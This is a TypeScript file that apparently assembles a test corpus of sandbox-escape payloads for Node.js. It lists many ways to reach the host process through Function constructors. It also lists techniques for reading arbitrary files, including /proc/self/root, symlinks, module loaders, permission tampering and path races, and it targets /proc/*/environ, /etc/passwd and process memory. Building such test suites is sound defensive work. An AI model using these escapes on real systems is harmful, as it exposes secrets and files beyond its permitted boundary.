import type { Payload } from './escape-payloads.ts'

/** Ways out of what a function is given, to the process itself. What is found there is `env`, `argv` and the like. */
const exits: Readonly<Record<string, string>> = {
  timer: 'setTimeout.constructor("return process")()',
  callback: 'require.constructor("return process")()',
  buffer: 'Buffer.from.constructor("return process")()',
  'fetch function': 'fetch.constructor("return globalThis")().process',
  signal: 'AbortSignal.abort.constructor("return process")()',
  console: 'console.log.constructor("return process")()',
  metadata: 'auth0.users.updateAppMetadata.constructor("return process")()',
  error: 'UnauthorizedError.constructor("return process")()',
  'harmless process': 'process.nextTick.constructor("return process")()',
  'async function': 'await (async () => {}).constructor("return process")()',
  generator: '(function* () {}).constructor("return process")().next().value',
  'async generator': '(await (async function* () {}).constructor("return process")().next()).value',
  eval: '(0, eval)("process")',
  this: 'Function("return this")().process',
  global: 'globalThis.global.process',
  trace:
    '(() => { let found; Error.prepareStackTrace = (e, calls) => { found = calls.map((c) => c.getThis()).find((t) => t && t.process) }; void new Error().stack; delete Error.prepareStackTrace; return found ? found.process : globalThis.process })()',
  vm: 'globalThis.process.getBuiltinModule("vm").runInThisContext("process")',
  'new context': 'globalThis.process.getBuiltinModule("vm").runInNewContext("f.constructor(`return process`)()", { f: setTimeout })',
  species:
    'await new (class extends Promise { static get [Symbol.species]() { return Promise } })((yes) => yes(globalThis.process)).then((p) => p)',
  thenable: 'await { then: (yes) => yes(yes.constructor("return process")()) }',
  proxy: 'new Proxy(function () {}, { apply: (t) => t.constructor("return process")() })()',
  domains: 'globalThis.process.getBuiltinModule("domain").create().run(() => globalThis.process)',
  inspectable:
    'require("util").inspect({ [require("util").inspect.custom]: (d, o, i) => i.constructor("return process.argv.join()")() }) && P',
}

const facts = `[p.env, p.argv, p.execArgv, p.title, p.config && Object.keys(p.config), p.report, p.features, p.debugPort]`

/** Ways to read one file. */
const readers: Readonly<Record<string, string>> = {
  readFileSync: 'require("fs").readFileSync(FILE, "latin1")',
  'a file URL': 'require("fs").readFileSync(new URL("file://" + FILE), "latin1")',
  'bytes as a path': 'require("fs").readFileSync(Buffer.from(FILE), "latin1")',
  promise: 'await require("fs/promises").readFile(FILE, "latin1")',
  open: '(() => { const fs = require("fs"); const b = Buffer.alloc(99); fs.readSync(fs.openSync(FILE, "r"), b); return b.toString() })()',
  handle: 'await (await require("fs").promises.open(FILE)).readFile("latin1")',
  stream: '(await require("stream/consumers").text(require("fs").createReadStream(FILE)))',
  blob: 'await (await require("fs").openAsBlob(FILE)).text()',
  'by way of a package': 'require("fs").readFileSync(P.mainModule.paths[0] + "/../../../../../../../../../../.." + FILE, "latin1")',
  'up from what may be read': 'require("fs").readFileSync(P.argv[1].replace(/[^/]*$/, "") + "../../../../../../../.." + FILE, "latin1")',
  'the process’s root': 'require("fs").readFileSync("/proc/self/root" + FILE, "latin1")',
  'a thread’s root': 'require("fs").readFileSync("/proc/thread-self/root" + FILE, "latin1")',
  'the folder it runs in': 'require("fs").readFileSync("/proc/self/cwd" + FILE, "latin1")',
  'a parent’s root': 'require("fs").readFileSync("/proc/" + PID + "/root" + FILE, "latin1")',
  'a link': 'require("fs").symlinkSync(FILE, P.argv[1] + ".link"), require("fs").readFileSync(P.argv[1] + ".link", "latin1")',
  'a hard link': 'require("fs").linkSync(FILE, "/tmp/usher-link"), require("fs").readFileSync("/tmp/usher-link", "latin1")',
  copy: 'require("fs").copyFileSync(FILE, "/proc/self/fd/2")',
  'copy of a folder': 'require("fs").cpSync(FILE, "/tmp/usher-copy"), require("fs").readFileSync("/tmp/usher-copy", "latin1")',
  listing: 'require("fs").readdirSync(FILE.replace(/[^/]*$/, ""))',
  opendir: 'require("fs").opendirSync("/").readSync().name + require("fs").readdirSync("/")',
  glob: 'require("fs").globSync(FILE.replace(/[^/]*$/, "") + "*").join() || "nothing"',
  stat: 'require("fs").statSync(FILE).size',
  access: 'require("fs").accessSync(FILE), "it is there"',
  watch: 'require("fs").watch(FILE), "watching"',
  realpath: 'require("fs").realpathSync.native(FILE)',
  'changing a path':
    '(() => { let n = 0; const p = Buffer.from(P.argv[1].padEnd(FILE.length + 200, "\\0")); p.toString = () => n++ ? FILE : P.argv[1]; setImmediate(() => p.write(FILE + "\\0")); return require("fs").promises.readFile(p, "latin1") })()',
  'a URL that is none':
    'require("fs").readFileSync({ href: "file://" + FILE, protocol: "file:", pathname: FILE, hostname: "", auth: undefined, path: undefined }, "latin1")',
  'as a module': 'P.mainModule.require(FILE)',
  'as JSON': 'P.getBuiltinModule("module")._extensions[".json"]({}, FILE)',
  'as an extension': 'P.getBuiltinModule("module")._extensions[".js"]({ _compile: (text) => { throw text }, paths: [] }, FILE)',
  'as an import': 'await import("file://" + FILE)',
  'as an import with a type': 'await import("file://" + FILE, { with: { type: "json" } })',
  'with hooks for modules':
    'P.getBuiltinModule("module").registerHooks({ load: (u, c, next) => { const r = next("file://" + FILE, { ...c, format: "module" }); throw String(r.source) } }), await import("data:text/javascript,1")',
  'by fetch': 'await (await fetch("file://" + FILE)).text()',
  'as an environment': 'P.loadEnvFile(FILE), P.env',
  'as a source map':
    'P.getBuiltinModule("module").setSourceMapsSupport(true, { nodeModules: true, generatedCode: true }), (0, eval)("try { null.x } catch (e) { e.stack }\\n//# sourceMappingURL=file://" + FILE), P.getBuiltinModule("module").findSourceMap(FILE)',
  'nearest package': 'P.getBuiltinModule("module").findPackageJSON("file://" + FILE)',
  'as an add-on': 'P.dlopen({ exports: {} }, FILE)',
  'as an engine': 'require("crypto").setEngine(FILE)',
  'as certificates': 'require("tls").createSecureContext({ ca: FILE, cert: FILE })',
  'by a binding': 'P.binding("fs").internalModuleReadJSON(FILE)',
  'by an internal module': 'P.mainModule.constructor._load("internal/bootstrap/realm")',
  'a compile cache': 'P.getBuiltinModule("module").enableCompileCache("/tmp/usher-cache")',
  'written over': 'require("fs").writeFileSync(FILE, "x"), "written"',
  'a report': 'P.report.writeReport()',
  'a heap snapshot': 'require("stream/consumers").text(P.getBuiltinModule("v8").getHeapSnapshot())',
  'a snapshot file': 'P.getBuiltinModule("v8").writeHeapSnapshot("/tmp/usher-heap")',
  'a flag': 'P.getBuiltinModule("v8").setFlagsFromString("--allow-natives-syntax"), Function("return %DebugPrint({})")()',
  'permissions asked away':
    'Object.defineProperty(P, "permission", { value: { has: () => true } }), require("fs").readFileSync(FILE, "latin1")',
  'permissions of another kind': 'P.permission.drop && P.permission.drop("fs.read", "/none"), require("fs").readFileSync(FILE, "latin1")',
  'a changed path module':
    'P.getBuiltinModule("path").toNamespacedPath = () => FILE, P.getBuiltinModule("path").resolve = () => FILE, require("fs").readFileSync(P.argv[1], "latin1").includes("canary")',
  'a TypeScript file':
    'P.getBuiltinModule("module").stripTypeScriptTypes("import x from " + JSON.stringify(FILE), { mode: "strip" }), await import(FILE + "?x")',
}

/** What stays behind, and would be what others fail by. */
const POISONOUS = /hooks|changed|permissions|source map|cache|engine|flag|link/

/** Other places where something of the parent might lie. */
const places = [
  ...['/proc/self/environ', '/proc/self/cmdline', '/proc/self/maps', '/proc/self/mem', '/proc/self/fdinfo/3', '/proc/1/environ'],
  ...['/proc/net/tcp', '/proc/net/unix', '/proc/mounts', '/etc/passwd', '/etc/hosts', '/dev/mem', '/dev/shm', '/sys/kernel/mm'],
]

export const reading: readonly Payload[] = [
  ...Object.entries(exits).map(([name, way]) => ({ name: `out by ${name}`, body: `const p = ${way}; return ${facts}` })),
  ...Object.entries(readers).map(([name, way]) => ({
    name: `a file: ${name}`,
    body: `return ${way}`,
    isDestructive: POISONOUS.test(name),
  })),
  ...places.map((place) => ({ name: place, body: `return require("fs").readFileSync(${JSON.stringify(place)}, "latin1")` })),
  ...['environ', 'cmdline', 'mem', 'maps', 'cwd', 'exe', 'fd/0', 'status'].map((file) => ({
    name: `the parent’s ${file}`,
    body: `return require("fs").readFileSync("/proc/" + PID + "/${file}", "latin1")`,
  })),
]
